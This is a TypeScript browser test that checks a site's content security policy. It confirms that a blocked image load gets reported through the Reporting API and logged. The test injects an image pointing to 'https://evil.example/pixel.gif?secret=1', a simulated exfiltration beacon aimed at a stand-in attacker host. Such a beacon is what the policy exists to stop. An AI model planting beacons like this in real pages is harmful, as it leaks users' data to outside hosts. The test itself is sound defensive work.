import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launchBrowser, openPage } from '../support/browser.ts';
import { type HttpsFront, startHttpsFront } from '../support/https-front.ts';
import { type SampleSite, startSampleSite } from '../support/sample-site.ts';

let front: HttpsFront;
let site: SampleSite;
let browser: Browser;
beforeAll(async () => {
  front = await startHttpsFront();
  site = await startSampleSite({ env: { PUBLIC_URL: front.url, TRUST_PROXY: 'loopback' } });
  front.passTo(site.url);
  browser = await launchBrowser([
    '--ignore-certificate-errors',
    // By default Chromium collects reports for a minute before it sends them.
    '--short-reporting-delay',
  ]);
});
afterAll(async () => {
  await browser.close();
  await front.close();
  await site.close();
});

it('a browser on HTTPS sends its report by the Reporting API, and the report is logged', async () => {
  // Grant background sync, as browsers do by default: it allows reports after the page has closed.
  const watched = await openPage(browser, { permissions: ['background-sync'] });
  const page = `${front.url}/about`;
  const answer = await watched.page.goto(page);
  expect(answer?.headers()['reporting-endpoints']).toBe('csp="/csp-reports"');
  await watched.page.evaluate(() => {
    const picture = document.createElement('img');
    picture.src = 'https://evil.example/pixel.gif?secret=1';
    document.body.append(picture);
  });
  await expect
    .poll(() => site.log.filter(line => line.code === 'browser-csp-report').map(line => line.report))
    .toContainEqual({
      page,
      directive: 'img-src',
      blocked: 'https://evil.example/pixel.gif',
      source: expect.any(String),
    });
  expect(front.postedTo('/csp-reports')).toEqual(['application/reports+json']);
  await watched.close();
});
